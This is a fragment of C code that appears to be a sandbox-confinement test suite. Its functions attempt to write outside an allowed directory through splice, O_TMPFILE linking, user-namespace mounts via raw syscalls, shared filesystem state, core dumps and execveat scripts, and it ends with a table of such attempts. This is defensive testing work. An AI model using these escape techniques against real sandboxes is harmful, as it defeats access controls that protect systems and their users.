T(sys_setflags) { U; int f = FS_NODUMP_FL; return E(sys(SYS_ioctl, sys(SYS_open, FILE_, O_RDONLY), FS_IOC_SETFLAGS, &f)); }
T(core) { U; struct rlimit r = { RLIM_INFINITY, RLIM_INFINITY }; int s; setrlimit(RLIMIT_CORE, &r);
	pid_t pid = fork(); if (!pid) { if (chdir(in("outside"))) _exit(1); prctl(PR_SET_DUMPABLE, 1); kill(getpid(), SIGSEGV); pause(); }
	waitpid(pid, &s, 0); return EACCES; }
T(sys_tmpfile_link) { U; int fd = (int)sys(SYS_open, in("work"), O_TMPFILE | O_WRONLY, 0644); return fd < 0 ? errno : E(sys(SYS_linkat, fd, "", AT_FDCWD, NEW_, AT_EMPTY_PATH)); }
T(sys_splice_mem) { U; int p[2], m = (int)sys(SYS_open, FILE_, O_RDWR); if (pipe(p) || m < 0) return errno; (void)!write(p[1], "changed", 7); return E(sys(SYS_splice, p[0], 0, m, 0, 7, 0)); }
T(sys_userns_overlay) { U; mkdir(in("work/m"), 0755); if (sys(SYS_unshare, 0x10020000)) return errno;
	int fs = (int)sys(430, "tmpfs", 0), m; if (fs < 0) return errno; sys(431, fs, 6, 0, 0, 0); m = (int)sys(432, fs, 0, 0);
	return m < 0 ? errno : E(sys(429, m, "", AT_FDCWD, in("outside"), 4)) ? errno : E(sys(SYS_open, NEW_, O_CREAT | O_WRONLY, 0644)); }
T(clone_fs) { U; pid_t pid = (pid_t)sys(SYS_clone, CLONE_FS | SIGCHLD, 0, 0, 0, 0); if (!pid) { chdir(in("outside")); _exit(0); } waitpid(pid, NULL, 0); return E(open("new", O_CREAT | O_WRONLY, 0644)); }
T(script) { U; int f = open(in("work/s.sh"), O_CREAT | O_WRONLY, 0755); dprintf(f, "#!/bin/sh\necho x > %s\n", NEW_); close(f); char *v[] = { "s", NULL }; pid_t pid = fork(); if (!pid) { sys(SYS_execveat, open(in("work/s.sh"), O_RDONLY), "", v, NULL, AT_EMPTY_PATH); _exit(1); } waitpid(pid, NULL, 0); return EACCES; }

const struct attempt kernel_write_attempts[] = {
	{ "sys-race-chmod", w_sys_race_chmod }, { "sys-race-chown", w_sys_race_chown }, { "sys-race-utimes", w_sys_race_utimes },
	{ "sys-race-xattr", w_sys_race_xattr }, { "sys-race-fchmod", w_sys_race_fchmod }, { "sys-race-fsetxattr", w_sys_race_fsetxattr },
	{ "race-fchmod", w_race_fchmod }, { "race-chmod", w_race_chmod }, { "sys-fchmodat2-empty", w_sys_fchmodat2_empty },
	{ "sys-fchownat-empty", w_sys_fchownat_empty }, { "sys-utimensat-null", w_sys_utimensat_null }, { "sys-setxattrat", w_sys_setxattrat },
	{ "sys-file-setattr", w_sys_file_setattr }, { "proc-fd-setxattr", w_proc_fd_setxattr }, { "fssetxattr", w_fssetxattr },
	{ "sys-setflags", w_sys_setflags }, { "core", w_core }, { "sys-tmpfile-link", w_sys_tmpfile_link }, { "sys-splice", w_sys_splice_mem },
	{ "sys-userns-overlay", w_sys_userns_overlay }, { "sys-clone-fs", w_clone_fs }, { "sys-script-fd", w_script }, { NULL, NULL },
};
